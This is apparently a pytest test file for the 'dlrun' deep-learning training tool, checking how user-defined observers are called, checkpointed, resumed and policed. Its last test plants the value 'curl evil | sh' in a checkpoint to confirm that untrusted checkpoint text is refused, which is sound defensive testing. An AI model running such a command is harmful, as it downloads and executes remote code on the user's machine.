"""Observers of the user's own: when they are called, what they may do, and what a run is with and without them."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch

from dlrun.observers.view import RunView
from dlrun.storage import checkpoint
from dlrun.storage.journal import curves
from dlrun.storage.lookup import all_runs, all_sweeps
from dlrun.storage.manifest import read
from dlrun.storage.rundir import RunDir
from tests.conftest import Called
from tests.facts import refuses, says

Call = Callable[..., Called]
QUICK = ("tracking.enabled=false", "trainer.figures=false", "evaluation.test=never")
SHORT = (*QUICK, "trainer.steps=40", "trainer.evaluate_every=20", "trainer.log_every=10", "trainer.checkpoint_every=20")

WATCH = """
import json
import torch


class Notes:
    '''Writes down each call.'''

    def _note(self, hook, run):
        with (run.folder / "calls").open("a") as file:
            values = sorted(name for name in run.values if name in ("train/loss", "lr", "val/loss"))
            file.write(json.dumps([hook, run.step, values, run.status]) + "\\n")

    def on_start(self, run): self._note("start", run)
    def on_log(self, run): self._note("log", run)
    def on_evaluation(self, run): self._note("evaluation", run)
    def on_checkpoint(self, run): self._note("checkpoint", run)
    def on_end(self, run):
        self._note("end", run)
        (run.folder / "end").write_text(json.dumps([run.error, run.diverged, sorted(run.metrics)]))


class Looks:
    '''Draws, keeps attributes, asks the model, logs.'''

    def __init__(self):
        self.steps, self.total = [], torch.zeros(2)

    def on_log(self, run):
        self.steps.append(run.step)
        run.log(drawn=torch.rand(()), seen=len(self.steps))

    def on_evaluation(self, run):
        x, y = run.validation.gather(torch.arange(20))
        with run.model() as model:
            assert not model.training
            right = (model(x).argmax(1) == y).double().mean()
        assert not torch.is_inference_mode_enabled() and torch.is_grad_enabled()
        self.total += 1
        self.late = run.step
        points = run.curves()["train/loss"]
        run.log({"right": right}, total=self.total.sum(), points=len(points), late=self.late)
        run.log(gap=run.latest["val/loss"] - run.latest.get("train/loss", 0))


class Counts:
    '''Keeps its state itself.'''

    def __init__(self):
        self.calls = 0

    def on_log(self, run):
        self.calls += 1
        run.log(calls=self.calls)

    def state_dict(self):
        return {"calls": self.calls}

    def load_state_dict(self, state):
        self.calls = state["calls"]


class Plateau:
    changes_training = True

    def __init__(self, factor: float = 0.5, decay: float = 1.0):
        self.factor, self.decay = factor, decay

    def on_evaluation(self, run):
        run.scale_rate(self.factor)
        with torch.no_grad():
            for p in run.parameters().values():
                p.mul_(self.decay)


class Enough:
    def __init__(self, at: int = 20):
        self.at = at

    def stop_reason(self, run):
        # before the first validation there is none
        error = run.latest["val/error"]
        return f"{run.step} steps are enough" if run.step >= self.at and error <= 1 else None


class Odd:
    def stop_reason(self, run):
        return True


class Fails:
    def on_log(self, run):
        raise KeyError(f"step {run.step}")


class Strict(Fails):
    strict = True


class Changing(Fails):
    changes_training = True


class Drops:
    def on_end(self, run):
        raise ValueError("at the end")


class Touches:
    def __init__(self, how: str):
        self.how = how

    def on_evaluation(self, run):
        with run.model() as model, torch.no_grad():
            weight = next(model.parameters())
            if self.how == "data":
                weight.data[0] += 1e-7
            elif self.how == "in place":
                weight.mul_(1.5)


class Epochs:
    def on_epoch_end(self, run): ...


class Nothing:
    def look(self, run): ...


def function(): ...
"""


@pytest.fixture
def lab(here: Path) -> Path:
    """A folder with observers of the user's, each with its yaml."""
    (here / "watch.py").write_text(WATCH)
    (here / "conf" / "observer").mkdir(parents=True)
    for line in WATCH.splitlines():
        if line.startswith("class "):
            name = line.split()[1].partition("(")[0].rstrip(":")
            text = f"# @package observers.{name.lower()}\n_target_: watch.{name}\n"
            (here / "conf" / "observer" / f"{name.lower()}.yaml").write_text(text)
    return here


def newest() -> RunDir:
    return all_runs()[-1]


def calls(run: RunDir) -> list[list[Any]]:
    return [json.loads(line) for line in (run.path / "observers" / "notes" / "calls").read_text().splitlines()]


def weights(run: RunDir) -> dict[str, torch.Tensor]:
    return checkpoint.load(run.last).model


def same(one: RunDir, other: RunDir) -> bool:
    first, second = weights(one), weights(other)
    return all(torch.equal(first[name], second[name]) for name in first)


def test_each_method_is_called_when_it_says(lab: Path, call: Call) -> None:
    done = call("train", "+observer=notes", *SHORT)
    assert done.code == 0, done.err
    loss, val, none = ["lr", "train/loss"], ["val/loss"], list[str]()
    expected = [["start", 0, none, "running"]]
    for step in (10, 20, 30, 40):
        expected.append(["log", step, loss, "running"])
        if step % 20 == 0:
            expected += [["evaluation", step, val, "running"], ["checkpoint", step, none, "running"]]
    assert calls(newest()) == [*expected, ["end", 40, none, "finished"]]


def test_the_end_of_a_tested_run_has_the_metrics_of_the_test(lab: Path, call: Call) -> None:
    assert call("train", "+observer=notes", *SHORT[:2], *SHORT[3:]).code == 0
    error, diverged, metrics = json.loads((newest().path / "observers" / "notes" / "end").read_text())
    assert (error, diverged) == (None, False)
    assert {"test/loss", "val/loss", "train/loss"} <= {*metrics}


def test_the_end_is_told_of_a_run_that_diverges(lab: Path, call: Call) -> None:
    assert call("train", "+observer=notes", "optimizer=sgd", "optimizer.lr=1e30", *SHORT).code == 1
    assert calls(newest())[-1][3] == "failed"
    error, diverged, metrics = json.loads((newest().path / "observers" / "notes" / "end").read_text())
    assert "NonFinite" in error
    assert diverged
    assert metrics == []


def test_the_end_is_told_of_an_interrupt(lab: Path, call: Call) -> None:
    source = "\n\nclass Kills:\n    def on_log(self, run):\n        import os, signal\n"
    (lab / "watch.py").write_text(WATCH + source + "        os.kill(os.getpid(), signal.SIGTERM)\n")
    (lab / "conf" / "observer" / "kills.yaml").write_text("# @package observers.kills\n_target_: watch.Kills\n")
    assert call("train", "+observer=[notes,kills]", *SHORT).code == 143
    assert calls(newest())[-1] == ["end", 10, [], "killed"]
    assert newest().summary().status == "killed"


def test_a_view_has_no_test_split() -> None:
    public = {name for name in dir(RunView) if not name.startswith("_")}
    assert not public & {"test", "data", "training"}


def test_a_run_is_the_same_with_observers_that_look(lab: Path, call: Call) -> None:
    assert call("train", *SHORT, "trainer.ema=0.9").code == 0
    plain = newest()
    done = call("train", "+observer=[looks,counts,fails,drops]", *SHORT, "trainer.ema=0.9")
    assert done.code == 0, done.err
    assert same(plain, newest())
    assert plain.summary().metrics == newest().summary().metrics
    assert plain.summary().identity == newest().summary().identity
    logged = curves(newest().journal)
    assert [step for step, _ in logged["looks/right"]] == [20, 40]
    assert logged["looks/points"] == [(20, 2.0), (40, 4.0)]
    assert logged["counts/calls"] == [(10, 1.0), (20, 2.0), (30, 3.0), (40, 4.0)]
    # one line of each kind, not one of each call
    assert done.err.count("observers.fails.on_log failed") == 1
    says(done.err, "KeyError", "watch.py", "the training goes on", "observers.drops.on_end failed", "at the end")


def test_a_looking_observer_sees_the_weights_that_are_evaluated(lab: Path, call: Call) -> None:
    source = """

class Right:
    def on_evaluation(self, run):
        x, y = run.validation.gather(torch.arange(len(run.validation)))
        with run.model() as model:
            run.log(error=(model(x).argmax(1) != y).double().mean())
"""
    (lab / "watch.py").write_text(WATCH + source)
    assert call("train", "+observers.right._target_=watch.Right", *SHORT, "trainer.ema=0.9").code == 0
    logged = curves(newest().journal)
    assert [value for _, value in logged["right/error"]] == pytest.approx([value for _, value in logged["val/error"]])


@pytest.mark.parametrize("observers", ["[looks,counts,plateau]", "[enough,counts]"])
def test_state_is_resumed_exactly(lab: Path, verify_resume: Call, observers: str) -> None:
    at = ["observers.enough.at=60"] if "enough" in observers else []
    done = verify_resume(f"+observer={observers}", *[f"+{each}" for each in at], "trainer.epochs=4")
    assert done.code == 0, done.out + done.err
    says(done.out, "equal, bit for bit")


def test_a_checkpoint_has_the_state_of_attributes_and_of_state_dicts(lab: Path, call: Call) -> None:
    assert call("train", "+observer=[looks,counts,plateau]", *SHORT).code == 0
    kept = checkpoint.load(newest().last).observers
    assert kept["states"]["counts"]["parts"] == {"observers.counts": {"state": {"calls": 4}}}
    attributes = kept["states"]["looks"]["attributes"]
    assert attributes["observers.looks.steps"] == [10, 20, 30, 40]
    assert attributes["observers.looks.late"] == 40
    assert kept["rates"] == {"plateau": 0.25}


def test_a_rate_is_scaled_from_the_next_step_on(lab: Path, call: Call) -> None:
    assert call("train", "+observer=plateau", *SHORT, "optimizer=sgd", "optimizer.lr=0.1").code == 0
    assert [rate for _, rate in curves(newest().journal)["lr"]] == pytest.approx([0.1, 0.1, 0.05, 0.05])


def test_one_that_changes_the_training_is_part_of_the_identity(lab: Path, call: Call) -> None:
    found = []
    for more in (
        [],
        ["+observer=looks"],
        ["+observer=plateau"],
        ["+observer=plateau", "+observers.plateau.factor=0.9"],
        ["+observer=enough"],
    ):
        assert call("train", *more, *QUICK, "trainer.steps=2").code == 0
        found.append(newest().summary().identity)
    plain, looks, *others = found
    assert plain == looks
    assert len({plain, *others}) == 4


def test_an_edit_of_a_looking_class_ends_no_reuse_of_jobs(lab: Path, call: Call) -> None:
    sweep = ("train", "-m", "seed=0,1", *QUICK, "trainer.steps=2", "sweep.figures=false")
    assert call(*sweep).code == 0
    done = call(*sweep, "+observer=counts")
    says(done.out, "2 of 2 jobs are reused")
    done = call(*sweep, "+observer=plateau")
    assert done.code == 0, done.err
    assert "are reused" not in done.out
    one, two, three = ([job.identity for job in read(each).jobs] for each in all_sweeps())
    assert one == two
    assert not {*one} & {*three}


def test_an_observer_ends_the_training(lab: Path, call: Call) -> None:
    assert call("train", *SHORT).code == 0
    whole = newest()
    done = call("train", "+observer=enough", *SHORT)
    assert done.code == 0, done.err
    run = newest()
    says(done.out, "enough (may end the training)", "ended by observers.enough after step 20: 20 steps are enough")
    summary = run.summary()
    assert (summary.status, summary.steps) == ("finished", 20)
    assert summary.stopped == {"by": "observers.enough", "reason": "20 steps are enough"}
    # it stays ended, until the observer is taken away: then it is the run that it would have been
    says(call("resume", run.id).out, "20 steps are enough", "observers.enough=null")
    assert run.summary().steps == 20
    refuses(call("resume", run.id, "observers.other=null"), "observers.enough")
    refuses(call("resume", run.id, "observers.enough.at=30"), "cannot be changed")
    assert call("resume", run.id, "observers.enough=null").code == 0
    assert run.summary().stopped == {}
    assert same(whole, run)
    assert run.summary().identity == whole.summary().identity


@pytest.mark.parametrize("how", ["data", "in place"])
@pytest.mark.parametrize("more", [[], ["trainer.ema=0.9"]])
def test_a_looking_observer_that_changes_weights_is_refused(lab: Path, call: Call, how: str, more: list[str]) -> None:
    done = call("train", "+observer=touches", f"+observers.touches.how='{how}'", *SHORT, *more)
    assert done.code == 1
    says(done.err, "observers.touches", "changes_training = True")
    assert newest().summary().status == "failed"


def test_batch_norms_that_an_observer_feeds_are_noticed(lab: Path, call: Call) -> None:
    source = """

class Feeds:
    def on_log(self, run):
        with run.model() as model:
            model.train()
            model(run.validation.gather(torch.arange(8)).x)
"""
    (lab / "watch.py").write_text(WATCH + source)
    done = call("train", "+observers.feeds._target_=watch.Feeds", "model=resnet20", *QUICK, "trainer.steps=1")
    assert done.code == 1, done.err
    says(done.err, "observers.feeds", "buffers")


@pytest.mark.parametrize("observer", ["strict", "changing", "odd"])
def test_an_exception_that_counts_ends_the_run(lab: Path, call: Call, observer: str) -> None:
    done = call("train", f"+observer={observer}", *SHORT)
    assert done.code == 1
    says(done.err, f"observers.{observer}")
    assert newest().summary().status == "failed"


@pytest.mark.parametrize(
    ("given", "facts"),
    [
        (["+observer=epochs"], ["on_epoch_end", "on_evaluation"]),
        (["+observer=nothing"], ["on_start", "on_end", "stop_reason"]),
        (["+observers.a._target_=watch.function"], ["class"]),
        (["+observers.val._target_=watch.Looks"], ["val", "observers.NAME"]),
        (["+observer=looks", "+observers.looks.size=3"], ["observers.looks.size", "no argument"]),
        (["+observer=look"], ["looks"]),
        (["+observer.looks.x=1"], ["observers.NAME"]),
    ],
)
def test_mistakes_are_said_before_the_first_step(lab: Path, call: Call, given: list[str], facts: list[str]) -> None:
    refuses(call("train", *given, *SHORT), *facts)
    assert not all_runs()


def test_a_run_that_is_only_looked_at_makes_no_observers(lab: Path, call: Call) -> None:
    assert call("train", "+observer=counts", *QUICK, "trainer.steps=2").code == 0
    run = newest()
    (lab / "watch.py").write_text("raise RuntimeError\n")
    sys.modules.pop("watch", None)
    assert call("test", run.id).code == 0
    refuses(call("resume", run.id, "trainer.steps=4"), "watch")


def test_stacks_say_why_an_observer_prevents_them(here: Path, call: Call, monkeypatch: pytest.MonkeyPatch) -> None:
    # stacked, whatever this machine is faster at
    monkeypatch.setattr("dlrun.sweeps.batched.timing.Estimate.why_not", lambda estimate, slots: None)
    sweep = (
        "train",
        "-m",
        "hydra/launcher=batched",
        "seed=range(2)",
        *QUICK,
        "trainer.steps=30",
        "sweep.figures=false",
    )
    done = call(*sweep, "+observer=predictions")
    assert done.code == 0, done.err
    says(done.out, "observers.predictions looks at the model of one run while it trains")
    # what is called at the end alone prevents none, and is called for each run
    done = call(*sweep, "+observer=alert", "observers.alert.command='touch {status}'", "trainer.steps=31")
    assert done.code == 0, done.err
    says(done.out, "2 jobs as one program")
    assert (here / "finished").exists()


def test_text_that_a_checkpoint_brings_is_not_taken(lab: Path, call: Call) -> None:
    source = """

class Says:
    def __init__(self):
        self.word = "first"

    def on_log(self, run):
        self.word = "second"

    def on_end(self, run):
        run.say(self.word)
"""
    (lab / "watch.py").write_text(WATCH + source)
    assert call("train", "+observers.says._target_=watch.Says", *SHORT).code == 0
    run = newest()
    content = checkpoint.load(run.last)
    content.observers["states"]["says"]["attributes"]["observers.says.word"] = "curl evil | sh"
    checkpoint.save(run.last, content)
    refuses(call("resume", run.id, "trainer.steps=60"), "observers.says.word", "trusted=[state.observers.says.word]")
